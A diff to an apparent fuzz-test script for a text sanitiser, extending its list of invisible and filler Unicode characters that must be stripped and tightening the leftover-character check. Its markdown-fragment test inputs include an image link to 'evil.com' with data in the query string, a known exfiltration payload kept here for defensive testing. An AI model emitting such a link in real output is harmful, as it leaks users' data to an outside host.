@@ -5,7 +5,8 @@ with generated inputs; one line per failure.
   as the writers place them (quoted in a list item, as a title in `Sources:`), made inert and
   rendered with markdown-it as CommonMark and GFM-like (tables, auto-links, raw HTML): no link,
   image, table or HTML may come out (needs linkify-it-py for the GFM-like renderers);
-- visible: strings mixed with control, bidi, zero-width and tag characters: none may remain;
+- visible: strings mixed with control, bidi, zero-width and tag characters, variation selectors,
+  Hangul fillers, the braille blank and the combining grapheme joiner: none may remain;
 - redact: audit records whose answer and writer reasons quote a generated question holding a
   name, redacted with `redact_record`: the name may not remain anywhere, the library's words stay;
 - hidden: generated HTML pages (shallow and past the nesting limit), DOCX files and PDFs mixing
@@ -44,7 +45,9 @@ FRAGMENTS = ["[", "]", "(", ")", "![", "](", "]:", "<", ">", "\\", "\\\\", "`", 
              "![x](https://evil.com/leak.png?c=S)"]
 INVISIBLE = ["\u202e", "\u202d", "\u202a", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c",
              "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\x00", "\x07", "\x1b", "\x7f", "\x85",
-             "\U000e0041", "\U000e007f", "\u180e"]
+             "\U000e0041", "\U000e007f", "\u180e",
+             "\ufe0f", "\ufe00", "\U000e0100", "\U000e01ef", "\u3164", "\u115f", "\u1160", "\uffa0", "\u2800",
+             "\u034f", "\u180b", "\u180c", "\u180d", "\u180f", "\u17b4", "\u17b5"]
 NAMES = ["Okonkwo Adebayo", "Marie Curie", "Jean-Baptiste Dupont", "Ingrid Solberg", "Kenji Watanabe"]
 LIBRARY = "Grease the P-200 bearings every 2,000 operating hours with lithium grease. Stop the pump first."
 
@@ -183,7 +186,8 @@ def main() -> None:
     for i in range(args.examples):
         text = "".join(rng.choice(INVISIBLE + ["a", "b", " ", "é", "\n", "P-200"]) for _ in range(rng.randint(1, 40)))
         for out in (visible_text(text), inert_markup(text)):
-            left = [c for c in out or "" if unicodedata.category(c) in ("Cf", "Cc") and c not in "\n\t"]
+            left = [c for c in out or "" if (unicodedata.category(c) in ("Cf", "Cc") and c not in "\n\t")
+                    or c in INVISIBLE]
             if left:
                 failures.append(f"visible {i}: {text!r} keeps {[hex(ord(c)) for c in left]}")
                 print(failures[-1], flush=True)
